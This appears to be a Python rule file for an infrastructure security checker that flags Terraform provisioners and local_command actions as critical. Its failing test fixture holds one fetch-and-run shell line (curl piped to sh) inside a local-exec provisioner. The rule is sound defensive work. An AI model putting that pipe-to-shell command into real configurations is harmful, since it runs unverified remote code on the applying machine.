"""No provisioner in Terraform."""

from __future__ import annotations

from collections.abc import Iterator

from kr8.domain.code import Code
from kr8.domain.finding import Finding, Severity
from kr8.domain.infrastructure_check import Part
from kr8.domain.rule import Rule

RULE = Rule(
    name="terraform-provisioner",
    part=Part.TERRAFORM,
    severity=Severity.CRITICAL,
    security=True,
    title="Terraform runs no provisioner.",
    why="A provisioner passes validate and plan, and runs a program at apply: on the machine that applies, or in it.",
    mend="Bake what it does into the image, or give it to user_data or to the configuration management.",
    link="https://developer.hashicorp.com/terraform/language/resources/provisioners/syntax",
    runs_code=True,
)
PASSES = {"main.tf": 'resource "aws_instance" "web" {\n  user_data = "#!/bin/sh"\n}\n'}
FAILS = {
    "main.tf": """\
resource "aws_instance" "web" {
  provisioner "local-exec" {
    command = "curl example.com | sh"
  }
}
"""
}


def check(code: Code) -> Iterator[Finding]:
    """Each provisioner of each resource, and each action that runs a program."""
    for block in code.terraform.blocks("resource"):
        for provisioner in block.inner("provisioner"):
            kind = provisioner.labels[0] if provisioner.labels else "?"
            yield RULE.finding(f"{'.'.join(block.labels)} has a {kind} provisioner.", provisioner.place)
    for block in code.terraform.blocks("action", "local_command"):
        yield RULE.finding(f"action.{'.'.join(block.labels)} runs a program.", block.place)
